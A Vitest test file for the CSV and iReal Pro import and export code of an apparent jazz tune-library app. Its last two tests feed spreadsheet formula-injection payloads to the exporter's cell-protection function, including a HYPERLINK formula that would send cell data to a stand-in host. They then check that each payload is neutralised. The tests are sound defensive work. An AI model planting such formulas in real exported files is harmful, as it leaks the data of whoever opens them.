import { describe, expect, it } from 'vitest';
import { applyChange } from '../library/change.js';
import { seededRandom } from '../model/random.js';
import { EMPTY_LIBRARY } from '../model/records.js';
import { buildLibrary, setIdOf, songIdOf } from '../testing/fixtures.js';
import { joinSetNames, libraryCsv, protectCell, readCsv, splitSetNames, unprotectCell } from './csv.js';
import { iRealRows, readIReal } from './ireal.js';
import { planImport } from './plan.js';
import { readTextLines } from './text.js';

const context = () => ({ random: seededRandom(14), now: () => 1_800_000_000_000 });

describe('CSV import', () => {
  it('reads columns in any order, quoted commas, quotes and newlines, and reports unknown columns', () => {
    const csv = [
      'Sets,Title,Tempo,knowledge,KEY,notes',
      'Gig; Practice,"Cherokee (Indian Love Song), up",280,Medium,Bb,"Intro: 8 bars,',
      'then ""head"" x2"',
      ',Solar,,new,C#,',
      'Gig,Blues For Alice,,Know,random,',
    ].join('\r\n');
    const { rows, problems } = readCsv(csv);
    expect(problems).toEqual([
      {
        where: 'Column "Tempo"',
        message:
          'Tunedeck reads only title, key, knowledge, notes, composer, style, sets: this column was left out.',
      },
    ]);
    expect(rows).toEqual([
      {
        where: 'Row 1',
        title: 'Cherokee (Indian Love Song), up',
        key: 'B flat',
        knowledge: 'med',
        notes: 'Intro: 8 bars,\r\nthen "head" x2',
        sets: ['Gig', 'Practice'],
      },
      { where: 'Row 2', title: 'Solar', key: 'D flat', knowledge: 'new', notes: '', sets: [] },
      {
        where: 'Row 3',
        title: 'Blues For Alice',
        key: 'random',
        knowledge: 'know',
        notes: '',
        sets: ['Gig'],
      },
    ]);
  });

  it('keeps a row whose key or knowledge it cannot read, and says so', () => {
    const { rows, problems } = readCsv('title,key,knowledge\nNardis,H,expert\n');
    expect(rows).toEqual([{ where: 'Row 1', title: 'Nardis', sets: [] }]);
    expect(problems).toEqual([
      { where: 'Row 1', message: 'The key "H" is not one of the twelve: it comes in with a random key.' },
      { where: 'Row 1', message: '"expert" is not one of New, Medium, Know: it comes in as the default.' },
    ]);
  });

  it('needs a header with a title column', () => {
    expect(readCsv('Solar,C\nNardis,E\n').problems).toEqual([
      {
        where: 'The first line',
        message:
          'The first line must name the columns, one of them "title" (and any of key, knowledge, notes, composer, style, sets).',
      },
    ]);
  });

  it('writes set names with ";" inside as "\\;" and reads them back', () => {
    const names = ['Gig; late', 'Back\\slash', 'Practice'];
    expect(joinSetNames(names)).toBe('Gig\\; late; Back\\\\slash; Practice');
    expect(splitSetNames(joinSetNames(names))).toEqual(names);
  });

  it('round trip: export, import into an empty account, export again: identical', () => {
    const library = buildLibrary({
      sets: {
        'Friday Gig': ['Autumn Leaves', 'Cherokee, up', 'Solar'],
        'Practice; modal': ['So What', 'Solar'],
        Empty: [],
      },
      songs: {
        'Autumn Leaves': {
          knowledge: 'new',
          key: 'E flat',
          notes: 'Ballad intro, then "swing"',
          composer: 'Joseph Kosma',
          style: 'Medium Swing',
        },
        'Cherokee, up': { knowledge: 'med', key: 'B flat', notes: 'Line one\nLine two' },
        'So What': { key: 'D', composer: 'Miles Davis', style: 'Modal, medium' },
      },
    });
    const exported = libraryCsv(library);
    expect(exported.split('\r\n')[0]).toBe('title,key,knowledge,notes,composer,style,sets');
    expect(exported).toContain('So What,D,know,,Miles Davis,"Modal, medium",Practice\\; modal');
    const { rows, problems } = readCsv(exported);
    expect(problems).toEqual([]);
    const { change, preview } = planImport(EMPTY_LIBRARY, rows, context());
    expect(preview.added).toEqual(['Autumn Leaves', 'Cherokee, up', 'So What', 'Solar']);
    expect(preview.newSets).toEqual(['Friday Gig', 'Practice; modal']);
    const restored = applyChange(EMPTY_LIBRARY, change);
    expect(libraryCsv(restored)).toBe(exported);
  });
});

describe('the import plan, composer and style', () => {
  it('keeps what iReal Pro brings on new songs, and updates known songs only when asked', () => {
    const library = buildLibrary({ songs: { Solar: { key: 'C' } } });
    const rows = iRealRows(
      readIReal(
        'irealb://Solar%3DDavis%20Miles%3D%3DMedium%20Swing%3DC-%3D%3D1r34LbKcu7%3D%3D%3DNardis%3DDavis%20Miles%3D%3DModal%3DE-%3D%3D1r34LbKcu7%3D%3D%3DModal',
      ),
    );
    const kept = planImport(library, rows, context());
    const added = applyChange(library, kept.change);
    expect(Object.values(added.songs).find((song) => song.title === 'Nardis')).toMatchObject({
      key: 'E',
      composer: 'Miles Davis',
      style: 'Modal',
    });
    expect(added.songs[songIdOf(library, 'Solar')]).toMatchObject({ composer: '', style: '' });
    const updated = planImport(library, rows, context(), { update: true });
    expect(updated.preview.updated).toEqual(['Solar']);
    expect(applyChange(library, updated.change).songs[songIdOf(library, 'Solar')]).toMatchObject({
      key: 'C',
      composer: 'Miles Davis',
      style: 'Medium Swing',
    });
  });
});

describe('the import plan, size', () => {
  it('says when an import is too large to write at once, in words', () => {
    const rows = Array.from({ length: 7001 }, (_, i) => ({
      where: `Row ${i + 1}`,
      title: `Tune ${i + 1}`,
      sets: ['A', 'B'],
    }));
    const { preview, change } = planImport(EMPTY_LIBRARY, rows, context());
    expect(change.ops).toHaveLength(21_005);
    expect(preview.tooLarge).toBe(
      'This import would write 21,005 records at once, and one import writes at most 21,000. Split the file in two and import each part.',
    );
  });
});

describe('the import plan', () => {
  const library = buildLibrary({
    sets: { Gig: ['Solar', 'Nardis'] },
    songs: { Solar: { knowledge: 'new', key: 'C' } },
  });

  it('previews added, kept, invalid, repeated and new sets, and writes it all as one change', () => {
    const rows = readTextLines('Solar\n\nFootprints\n  footprints \n..Bad\nStella [By] Starlight\n');
    const { preview, change } = planImport(library, rows, context(), { intoSet: setIdOf(library, 'Gig') });
    expect(preview).toEqual({
      added: ['Footprints', 'Stella •By• Starlight'],
      kept: ['Solar'],
      updated: [],
      invalid: [{ where: 'Line 5', title: '..Bad', message: "Can't start or end with '.'" }],
      repeated: [{ where: 'Line 4', title: 'footprints' }],
      newSets: [],
      joined: 2,
      writes: 4,
      tooLarge: null,
      charts: 0,
    });
    expect(change.ops.map((op) => `${op.type} ${'collection' in op ? op.collection : ''}`)).toEqual([
      'create songs',
      'create memberships',
      'create songs',
      'create memberships',
    ]);
  });

  it('updates songs of the library only when asked, and joins their new sets either way', () => {
    const rows = readCsv('title,knowledge,key,sets\nSolar,know,D,Sunday\n').rows;
    const kept = planImport(library, rows, context());
    expect(kept.preview).toMatchObject({ kept: ['Solar'], updated: [], newSets: ['Sunday'], joined: 1 });
    expect(kept.change.ops.some((op) => op.type === 'update')).toBe(false);
    const updated = planImport(library, rows, context(), { update: true });
    expect(updated.preview).toMatchObject({ kept: [], updated: ['Solar'] });
    expect(updated.change.ops).toContainEqual({
      type: 'update',
      collection: 'songs',
      id: songIdOf(library, 'Solar'),
      patch: { knowledge: 'know', key: 'D' },
    });
  });

  it('an iReal playlist becomes a set of its songs', () => {
    const link = `irealb://${encodeURIComponent('Solar=Davis Miles==Medium Swing=C-==x=Jazz=140=3===Nardis=Davis Miles==Medium Swing=E-==x=Jazz=140=3===Miles')}`;
    const { preview, change } = planImport(library, iRealRows(readIReal(link)), context());
    expect(preview).toMatchObject({ added: [], kept: ['Solar', 'Nardis'], newSets: ['Miles'], joined: 2 });
    const after = applyChange(library, change);
    const miles = Object.values(after.sets).find((set) => set.name === 'Miles')!;
    expect(Object.values(after.memberships).filter((m) => m.set === miles.id)).toHaveLength(2);
  });

  it('writes a cell a spreadsheet would run with an apostrophe in front, and reads it back as it was', () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?x="&A2,"click")',
      '+1 chorus',
      '-5 bars',
      '@SUM(A1)',
      '\tTabbed',
      '\rReturned',
      "'=already quoted",
      "''@twice",
      "Don't = stop",
      "'Round Midnight",
      'Solar',
      '',
    ];
    expect(cells.map(protectCell)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A2,"click")`,
      "'+1 chorus",
      "'-5 bars",
      "'@SUM(A1)",
      "'\tTabbed",
      "'\rReturned",
      "''=already quoted",
      "'''@twice",
      "Don't = stop",
      "'Round Midnight",
      'Solar',
      '',
    ]);
    expect(cells.map(protectCell).map(unprotectCell)).toEqual(cells);
    // A file written elsewhere: only an apostrophe before what would run is taken off.
    expect(["'=1+1", "'Round Midnight", "'", "''"].map(unprotectCell)).toEqual([
      '=1+1',
      "'Round Midnight",
      "'",
      "''",
    ]);
  });

  it('exports no cell a spreadsheet would run, and the round trip still gives back every text', () => {
    const library = buildLibrary({
      sets: { '=Set()': ['=HYPERLINK("http://evil.example","click")', '-Intro'], '@home': ['+One'] },
      songs: {
        '=HYPERLINK("http://evil.example","click")': {
          notes: '@mention',
          composer: '-Anon',
          style: '=Swing',
        },
        '-Intro': { notes: '\tindented' },
        '+One': { notes: "'=kept as typed" },
      },
    });
    const exported = libraryCsv(library);
    const cells = exported
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
      .map((cell) => cell.replace(/^"|"$/g, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(exported.split('\r\n').slice(1)).toEqual([
      `'-Intro,random,know,'\tindented,,,'=Set()`,
      `'+One,random,know,''=kept as typed,,,'@home`,
      `"'=HYPERLINK(""http://evil.example"",""click"")",random,know,'@mention,'-Anon,'=Swing,'=Set()`,
    ]);
    const { rows, problems } = readCsv(exported);
    expect(problems).toEqual([]);
    const restored = applyChange(EMPTY_LIBRARY, planImport(EMPTY_LIBRARY, rows, context()).change);
    expect(
      Object.values(restored.songs)
        .map((song) => [song.title, song.notes])
        .sort(),
    ).toEqual([
      ['+One', "'=kept as typed"],
      ['-Intro', '\tindented'],
      ['=HYPERLINK("http://evil.example","click")', '@mention'],
    ]);
    expect(
      Object.values(restored.sets)
        .map((set) => set.name)
        .sort(),
    ).toEqual(['=Set()', '@home']);
    expect(libraryCsv(restored)).toBe(exported);
  });
});
